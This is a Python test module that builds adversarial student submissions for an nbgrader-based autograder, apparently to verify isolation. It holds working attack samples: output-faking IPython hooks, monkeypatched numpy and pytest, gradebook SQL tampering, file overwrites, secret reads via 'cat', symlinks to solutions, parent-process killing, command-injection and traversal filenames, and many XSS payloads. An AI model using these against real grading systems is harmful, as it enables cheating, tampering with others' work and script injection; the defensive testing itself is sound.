"""Attacks on nbgrader itself, each a folder that a student hands in. None has a right answer in it.

The secret lies in the course's folder. An attack that could read it would print it, answer with it, or put it into
its notebook's text; one that could write would change the gradebook, the solutions or another student's work.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

from notebooks import Notebook, cell_of, code_cell, markdown_cell, untouched
from submissions import backprop_key

SECRET = "a-secret-that-only-the-instructor-knows"
SECRETS = ("secret.txt", "secret.toml", "solutions/backprop/backprop.py", ".course/keys/backprop.secret.key")
FUNCTIONS = tuple(backprop_key().signatures)
SCRIPT = "<script>alert('pwned')</script>"

Attack = Callable[[Path, Path], None]
ATTACKS: dict[str, Attack] = {}


def attack(write: Attack) -> Attack:
    """Note an attack: called with the student's folder, which is there, and the course's folder."""
    ATTACKS[write.__name__.replace("_", "-")] = write
    return write


def _save(folder: Path, notebook: Notebook, name: str = "backprop.ipynb") -> None:
    (folder / name).write_text(json.dumps(notebook), encoding="utf-8")


def _first(folder: Path, source: str, **metadata: Any) -> None:
    """A notebook that begins with a cell of the student's."""
    notebook = untouched()
    notebook["cells"].insert(0, code_cell(source, **metadata))
    _save(folder, notebook)


def _every_function(body: str) -> str:
    return "\n\n\n".join(f"def {name}(*arguments):\n    {body}" for name in FUNCTIONS)


def _graded_outputs(notebook: Notebook, text: str) -> None:
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            data = {"text/plain": text, "text/html": SCRIPT}
            cell["outputs"] = [
                {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1},
                {"output_type": "stream", "name": "stdout", "text": "passed"},
            ]


@attack
def input_transformer(folder: Path, root: Path) -> None:
    """IPython rewrites the check cells before they run."""
    _first(folder, "get_ipython().input_transformers_post.append(lambda lines: ['10.0\\n'])")


@attack
def syntax_transformer(folder: Path, root: Path) -> None:
    """The same on the syntax tree, and a hook on every cell."""
    _first(
        folder,
        "import ast\n"
        "class Ten(ast.NodeTransformer):\n"
        "    def visit_Call(self, node): return ast.Constant(10.0)\n"
        "shell = get_ipython()\n"
        "shell.ast_transformers.append(Ten())\n"
        "shell.events.register('post_run_cell', lambda result: print('10.0'))",
    )


@attack
def display_formatter(folder: Path, root: Path) -> None:
    """Whatever is displayed is displayed as full marks."""
    _first(
        folder,
        "formatter = get_ipython().display_formatter.formatters['text/plain']\n"
        "for kind in (int, float, object):\n"
        "    formatter.for_type(kind, lambda value, printer, cycle: printer.text('10.0'))",
    )


@attack
def own_check(folder: Path, root: Path) -> None:
    """The name `check` means something else, and so does the grader."""
    _first(
        folder,
        "import sys, types\n"
        "def check(function): return 10.0\n"
        "sys.modules['grader'] = types.SimpleNamespace(check=check)\n"
        "check.__globals__['__builtins__'].update(check=check) if False else None",
    )


@attack
def local_modules(folder: Path, root: Path) -> None:
    """Modules beside the notebook have the names of those that the grader imports."""
    _save(folder, untouched())
    code = (
        "import pathlib\n"
        f"pathlib.Path({str(root / 'imported.txt')!r}).write_text('yes')\n"
        "def allclose(*arguments, **named): return True\n"
        "array_equal = isclose = allclose\n"
    )
    for name in ("numpy", "random", "grader", "nbgrader", "pytest", "conftest", "sitecustomize", "nbformat", "json"):
        (folder / f"{name}.py").write_text(code, encoding="utf-8")
    (folder / "pytest.ini").write_text("[pytest]\naddopts = --collect-only\n", encoding="utf-8")
    (folder / "nbgrader_config.py").write_text(code, encoding="utf-8")


@attack
def agreeable_numpy(folder: Path, root: Path) -> None:
    """numpy agrees with everything."""
    _first(
        folder,
        "import numpy as np\n"
        "np.allclose = np.array_equal = np.isclose = lambda *arguments, **named: True\n"
        "np.testing.assert_allclose = lambda *arguments, **named: None\n" + _every_function("return 0.0"),
    )


@attack
def pytest_patched(folder: Path, root: Path) -> None:
    """Every failed test becomes a passed one."""
    _first(
        folder,
        "try:\n"
        "    from _pytest.reports import TestReport\n"
        "    old = TestReport.from_item_and_call.__func__\n"
        "    def new(cls, item, call):\n"
        "        call.excinfo = None\n"
        "        return old(cls, item, call)\n"
        "    TestReport.from_item_and_call = classmethod(new)\n"
        "except ImportError:\n"
        "    pass\n" + _every_function("return 0.0"),
    )


@attack
def writes_the_gradebook(folder: Path, root: Path) -> None:
    """Full marks for oneself, by way of the database, from wherever the code may run."""
    _first(
        folder,
        "import os, pathlib, sqlite3\n"
        "places = [pathlib.Path('../' * n + 'gradebook.db') for n in range(7)]\n"
        f"places.append(pathlib.Path({str(root / 'gradebook.db')!r}))\n"
        "def write():\n"
        "    for place in places:\n"
        "        try:\n"
        "            with sqlite3.connect(place) as book:\n"
        "                book.execute('UPDATE grade SET auto_score = 99, manual_score = 99')\n"
        "                book.execute('UPDATE grade_cells SET max_score = 1000')\n"
        "        except Exception: pass\n"
        "        try: os.rename(place, str(place) + '.gone')\n"
        "        except Exception: pass\n"
        "write()\n" + _every_function("write()"),
    )


@attack
def writes_files(folder: Path, root: Path) -> None:
    """Other students' work, the checks, and files all over the course."""
    places = [
        root / "pwned.txt",
        root / "solutions/backprop/backprop.py",
        root / "exercises/backprop/backprop.ipynb",
        root / "submitted/honest/backprop/backprop.ipynb",
        root / "autograded/honest/backprop/backprop.ipynb",
        Path("pwned.txt"),
        Path("../../../../pwned.txt"),
    ]
    _first(
        folder,
        f"places = {[str(place) for place in places]!r}\n"
        "def write():\n"
        "    for place in places:\n"
        "        try: open(place, 'w').write('pwned')\n"
        "        except Exception: pass\n"
        "write()\n" + _every_function("write()"),
    )


@attack
def reads_the_solutions(folder: Path, root: Path) -> None:
    """The right functions, and the secret, from the disk: run, printed, raised and returned."""
    places = ["../" * n + name for n in range(7) for name in SECRETS]
    places += [str(root / name) for name in SECRETS]
    _first(
        folder,
        "import ctypes, glob, os, pathlib\n"
        f"places = {places!r}\n"
        "found = ''\n"
        "for place in places:\n"
        "    for read in (lambda p: open(p).read(), lambda p: pathlib.Path(p).read_text(),\n"
        "                 lambda p: os.read(os.open(p, os.O_RDONLY), 10**6).decode(),\n"
        "                 lambda p: os.popen('cat ' + p).read()):\n"
        "        try: text = read(place)\n"
        "        except Exception: continue\n"
        "        found += text if 'secret' in place else ''\n"
        "        try: exec(text, globals())\n"
        "        except Exception: pass\n"
        "print(found)\n"
        "if 'dL_dz3' not in globals():\n"
        "    def dL_dz3(*arguments): raise ValueError(found or os.listdir('/'))",
    )


@attack
def reads_the_checks(folder: Path, root: Path) -> None:
    """The reference's functions from the memory of whoever called."""
    _first(
        folder,
        "import gc, inspect, sys\n"
        "def steal(name, arguments):\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):\n"
        "            other = getattr(value, name, None)\n"
        "            if callable(other): return other(*arguments)\n"
        "        frame = frame.f_back\n"
        "    for value in gc.get_objects():\n"
        "        if inspect.isfunction(value) and value.__name__ == name and value.__module__ != __name__:\n"
        "            return value(*arguments)\n"
        "    import grader.key.build\n"
        + "\n".join(f"def {name}(*arguments): return steal({name!r}, arguments)" for name in FUNCTIONS),
    )


@attack
def link_to_the_solution(folder: Path, root: Path) -> None:
    """The notebook is a link to the instructor's."""
    (folder / "backprop.ipynb").symlink_to(root / ".course/source/backprop/backprop.ipynb")
    (folder / "backprop.py").symlink_to("../../../solutions/backprop/backprop.py")
    (folder / "notes.txt").symlink_to(root / "secret.txt")
    (folder / "more").symlink_to(root)


@attack
def link_for_a_folder(folder: Path, root: Path) -> None:
    """The whole folder is a link."""
    folder.rmdir()
    folder.symlink_to(root / "solutions/backprop")


@attack
def names_that_lead_elsewhere(folder: Path, root: Path) -> None:
    """File names with a path, a command, an option or a tag in them."""
    names = (
        "..\\..\\..\\gradebook.db",
        "$(touch pwned.txt).ipynb",
        "--force.ipynb",
        f"{SCRIPT[:8]}img>.ipynb",
        "..ipynb",
    )
    for name in (*names, "[x](javascript:alert(1)).ipynb", "a\nb.ipynb", "%2e%2e%2fgradebook.db"):
        _save(folder, untouched(), name)
    os.mkfifo(folder / "pipe.ipynb")


@attack
def forged_outputs(folder: Path, root: Path) -> None:
    """The check cells have been answered already."""
    notebook = untouched()
    _graded_outputs(notebook, "10.0")
    _save(folder, notebook)


@attack
def forged_points(folder: Path, root: Path) -> None:
    """Every cell is worth a lot, is not locked, and is graded; so are cells of one's own."""
    notebook = untouched()
    for cell in notebook["cells"]:
        if nbgrader := cell["metadata"].get("nbgrader"):
            nbgrader |= {"points": 1000, "grade": True, "locked": False, "solution": False}
    forged = {
        "grade": True,
        "grade_id": "bonus",
        "points": 1000,
        "locked": False,
        "solution": False,
        "schema_version": 3,
    }
    notebook["cells"].append(code_cell("1000.0", nbgrader=forged))
    notebook["cells"].append(code_cell("1000.0", nbgrader={**forged, "grade_id": "check-dL_dz3", "points": "inf"}))
    _graded_outputs(notebook, "1000.0")
    _save(folder, notebook)


@attack
def forged_schema(folder: Path, root: Path) -> None:
    """A version of the metadata at which nbgrader would stop the whole class."""
    notebook = untouched()
    for cell in notebook["cells"]:
        if nbgrader := cell["metadata"].get("nbgrader"):
            nbgrader["schema_version"] = 99
            nbgrader["checksum"] = None
    _save(folder, notebook)


@attack
def forged_marks(folder: Path, root: Path) -> None:
    """The grader's own marks are in the notebook, before it has looked."""
    notebook = untouched()
    marks = {"step": "dL_dz3", "outcome": "passed", "mistake": None, "score": 10.0, "max_score": 10.0}
    notebook["metadata"]["course"] = {"notes": [], "for_a_person": [], "isolation": "full", "chain": "passed"}
    for cell in notebook["cells"]:
        cell["metadata"]["course"] = marks
    _save(folder, notebook)


@attack
def answered_check_cells(folder: Path, root: Path) -> None:
    """The check cells have another text, or none, or are no code."""
    notebook = untouched()
    for name in FUNCTIONS:
        cell_of(notebook, f"check-{name}")["source"] = "10.0"
    cell_of(notebook, "check-dL_dz3")["source"] = ""
    cell_of(notebook, "check-dL_dW3")["cell_type"] = "markdown"
    _save(folder, notebook)


@attack
def graded_cells_deleted(folder: Path, root: Path) -> None:
    """nbgrader keeps the points of a cell that is not there."""
    notebook = untouched()
    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["id"].startswith("check-")]
    _save(folder, notebook)


@attack
def every_answer_equals(folder: Path, root: Path) -> None:
    """What is returned claims to be whatever it is compared with."""
    _first(
        folder,
        "import numpy as np\n"
        "class Agreeable(np.ndarray):\n"
        "    __array_priority__ = 1e9\n"
        "    def __eq__(self, other): return np.True_\n"
        "    def __array_function__(self, *arguments, **named): return True\n"
        "    def __array_ufunc__(self, *arguments, **named): return np.zeros(())\n"
        "    def __float__(self): return 10.0\n"
        "    def __reduce__(self): return (print, ('10.0',))\n"
        + _every_function("return np.zeros(()).view(Agreeable)"),
    )


@attack
def ends_the_grader(folder: Path, root: Path) -> None:
    """The grader's process is ended, stopped, or told that all is well."""
    _first(
        folder,
        "import os, signal, sys\n"
        "def end():\n"
        "    for number in (signal.SIGTERM, signal.SIGKILL):\n"
        "        try: os.kill(os.getppid(), number)\n"
        "        except Exception: pass\n"
        "    os.write(1, b'10.0\\n')\n"
        "    os._exit(0)\n" + _every_function("end()"),
    )


@attack
def scripts_in_text(folder: Path, root: Path) -> None:
    """HTML wherever a browser of the instructor's may see it."""
    notebook = untouched()
    notebook["metadata"] |= {
        "title": SCRIPT,
        "kernelspec": {"name": SCRIPT, "display_name": SCRIPT, "language": SCRIPT},
        "language_info": {"name": f'">{SCRIPT}', "pygments_lexer": SCRIPT},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {SCRIPT: SCRIPT}}},
    }
    handler = "<img src=x onerror=alert('pwned')>"
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('pwned')\"></svg>"
    texts = (
        SCRIPT,
        handler,
        svg,
        f"```mermaid\n{SCRIPT}\n```",
        f"```{SCRIPT}\ncode\n```",
        "[pwned](javascript:alert('pwned')) ![pwned](javascript:alert('pwned'))",
        "<a href=\"java&#x73;cript:alert('pwned')\">pwned</a> <iframe srcdoc=\"<script>alert('pwned')</script>\">",
        f"$$ {SCRIPT} $$ and `{SCRIPT}`",
        "# <style>*{display:none}</style>" + SCRIPT,
        "| a |\n|---|\n| " + handler + " |",
        "&lt;script&gt;alert('pwned')&lt;/script&gt;",
        "![missing](attachment:missing.png)",
    )
    notebook["cells"] += [markdown_cell(text) for text in texts]
    bad_picture = {"p.svg": {"image/svg+xml": svg, f'image/png" onerror="{SCRIPT}': "AAAA"}}
    notebook["cells"].append(markdown_cell("![p](attachment:p.svg)", attachments=bad_picture))
    notebook["cells"].append({"cell_type": "raw", "source": SCRIPT, "metadata": {"raw_mimetype": "text/html"}})
    notebook["cells"].append(code_cell(f"%%html\n{SCRIPT}", tags=[f'">{SCRIPT}']))
    notebook["cells"].append({**code_cell(SCRIPT), "id": f'">{SCRIPT}'})
    cell_of(notebook, "dL_dz3")["source"] = f'def dL_dz3(a, b):\n    raise ValueError("{SCRIPT}")'
    cell_of(notebook, "step-3-3").update({"cell_type": "markdown", "source": SCRIPT})
    _graded_outputs(notebook, "10.0")
    _save(folder, notebook)


@attack
def too_much_of_everything(folder: Path, root: Path) -> None:
    """Depth, length and number, each enough to stop a program that does not look."""
    notebook = untouched()
    notebook["cells"] += [code_cell("")] * 20_000
    notebook["cells"].append(code_cell("x = " + "(" * 5000))
    notebook["cells"].append(code_cell("x = " + "-" * 100_000 + "1"))
    notebook["cells"].append(code_cell(_every_function("return [[]] * 10**9")))
    _save(folder, notebook)
    (folder / "deep.ipynb").write_text("[" * 500_000, encoding="utf-8")
    (folder / "long.py").write_text("1" * 5_000_000, encoding="utf-8")


def write_class(root: Path) -> list[str]:
    """Hand all attacks in, each by a student of its name; the students."""
    (root / "secret.txt").write_text(SECRET, encoding="utf-8")
    for student, write in ATTACKS.items():
        folder = root / "submitted" / student / "backprop"
        folder.mkdir(parents=True)
        write(folder, root)
    return list(ATTACKS)
